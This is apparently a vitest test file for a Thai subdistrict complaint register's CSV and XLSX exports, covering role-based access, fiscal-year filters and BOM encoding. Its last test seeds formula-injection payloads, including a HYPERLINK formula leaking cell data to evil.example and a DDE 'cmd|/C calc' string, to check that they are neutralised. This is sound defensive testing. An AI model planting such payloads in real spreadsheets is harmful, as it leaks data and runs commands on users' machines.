import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { operation } from './contract.js';
import { Workflow } from './factories.js';
import { signedIn, type Agent } from './graphql-client.js';
import { startTestServer, type TestServer } from './harness.js';

let server: TestServer;
const agents: Record<string, Agent> = {};
let hidden: { receiptNumber: string };
let assigned: { receiptNumber: string };

beforeAll(async () => {
  server = await startTestServer();
  for (const username of ['center', 'commander', 'nayok', 'engineer', 'admin']) agents[username] = await signedIn(server.url, username);
  const flow = new Workflow(agents.center, agents.commander);
  const officials = (await agents.center.ok(operation('Officials'))).officials as { id: string; user: { username: string } | null }[];
  const engineer = officials.find((official) => official.user?.username === 'engineer')!.id;
  assigned = await flow.at('FACT_FINDING', { receivedAt: '2026-03-02T09:00:00+07:00', incidentAt: null });
  hidden = await flow.at('FACT_FINDING', {
    receivedAt: '2026-03-03T09:00:00+07:00',
    incidentAt: null,
    accused: [{ officialId: engineer }],
  });
  await flow.record({ receivedAt: '2024-03-03T09:00:00+07:00', incidentAt: null, complainant: null });
});
afterAll(() => server?.stop());

const download = (agent: Agent | null, path: string) =>
  fetch(`${server.url}${path}`, { headers: agent?.cookie ? { cookie: agent.cookie } : {} });

describe('R7: the complaint register as a file (exports)', () => {
  it("gives the center officer every complaint with the complainant's identity, as CSV Excel reads (UTF-8 with BOM)", async () => {
    const response = await download(agents.center, '/exports/register.csv');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toContain('complaint-register.csv');
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    const lines = text.trim().split('\r\n');
    expect(lines[0]).toContain('"ผู้ร้องเรียน"');
    expect(lines).toHaveLength(4);
    expect(text).toContain('นายสมปอง ใจกล้า');
    expect(text).toContain('ไม่ประสงค์ออกนาม');
  });

  it('gives the Nayok the register without identities, and filters by fiscal year', async () => {
    const text = await (await download(agents.nayok, '/exports/register.csv?fiscalYear=2569')).text();
    // No complainant's column (an overdue deadline's Thai name may say ผู้ร้องเรียน: issue 14, item 5).
    expect(
      text
        .replace(/^\uFEFF/, '')
        .split('\r\n')[0]!
        .split(','),
    ).not.toContain('"ผู้ร้องเรียน"');
    expect(text).not.toContain('โทรศัพท์');
    expect(text).not.toContain('นายสมปอง');
    expect(text.trim().split('\r\n')).toHaveLength(3);
  });

  it("gives the engineer his division's complaints only, never one that accuses him (XLSX)", async () => {
    const response = await download(agents.engineer, '/exports/register.xlsx');
    expect(response.headers.get('content-type')).toContain('spreadsheetml');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    const sheet = workbook.worksheets[0];
    const receipts = sheet.getColumn(1).values.slice(2).map(String);
    expect(receipts).toEqual([assigned.receiptNumber]);
    expect(receipts).not.toContain(hidden.receiptNumber);
    expect(String(sheet.getRow(1).getCell(1).value)).toBe('เลขรับ');
  });

  it('R10: exports the statistics as a workbook and CSV, for statistics readers', async () => {
    const response = await download(agents.nayok, '/exports/statistics.xlsx?fiscalYear=2569&quarter=2');
    expect(response.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    const rows = workbook.worksheets[0]
      .getSheetValues()
      .slice(1)
      .map((row) => (row as unknown[]).slice(1).map(String));
    expect(rows[0]).toEqual(['สถิติเรื่องร้องเรียน', 'ไตรมาส 2 ปีงบประมาณ 2569', 'องค์การบริหารส่วนตำบลโคกแย้']);
    expect(rows).toContainEqual(['ได้รับ', '2']);
    const csv = await (await download(agents.admin, '/exports/statistics.csv?fiscalYear=2569')).text();
    expect(csv).toContain('"ได้รับ","2"');
    expect((await download(agents.engineer, '/exports/statistics.csv?fiscalYear=2569')).status).toBe(403);
    expect((await download(agents.nayok, '/exports/statistics.csv?fiscalYear=2026')).status).toBe(400);
  });

  it('refuses without a session (401), to ADMIN (403), and a C.E. fiscal year (400)', async () => {
    expect((await download(null, '/exports/register.csv')).status).toBe(401);
    expect((await download(agents.admin, '/exports/register.csv')).status).toBe(403);
    expect((await download(agents.center, '/exports/register.csv?fiscalYear=2026')).status).toBe(400);
  });
});

describe('formula injection in the register (issue 9, item 15)', () => {
  it('writes a subject, accused or phone that starts a formula with a quote in CSV, and as plain text in XLSX', async () => {
    const subject = '=HYPERLINK("http://evil.example/?leak="&A2,"ดูรายละเอียด")';
    const recorded = await new Workflow(agents.center, agents.commander).record({
      receivedAt: '2026-03-04T09:00:00+07:00',
      incidentAt: null,
      subject,
      accused: [{ fullName: "@SUM(1+1)*cmd|' /C calc'!A0", position: '-เจ้าพนักงาน', unit: '+กองช่าง' }],
      complainant: { fullName: '\t=1+1', phone: '+66 81 234 5678' },
    });
    const csv = await (await download(agents.center, '/exports/register.csv?fiscalYear=2569')).text();
    const line = csv.split('\r\n').find((row) => row.startsWith(`"${recorded.receiptNumber}"`))!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""ดูรายละเอียด"")"`);
    expect(line).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0 -เจ้าพนักงาน +กองช่าง"`);
    // Stored trimmed (the tab is gone), still a formula without the quote.
    expect(line).toContain(`"'=1+1"`);
    expect(line).toContain(`"'+66 81 234 5678"`);
    // No cell of the file starts a formula: every one is quoted, and none opens with = + - @ tab CR.
    for (const cell of csv
      .replace(/^\uFEFF/, '')
      .trim()
      .split(/\r\n/)
      .flatMap((row) => row.slice(1, -1).split('","'))) {
      expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await (await download(agents.center, '/exports/register.xlsx?fiscalYear=2569')).arrayBuffer());
    const row = workbook.worksheets[0].getColumn(1).values.findIndex((value) => value === recorded.receiptNumber);
    const cell = workbook.worksheets[0].getRow(row).getCell(4);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(subject);
  });
});
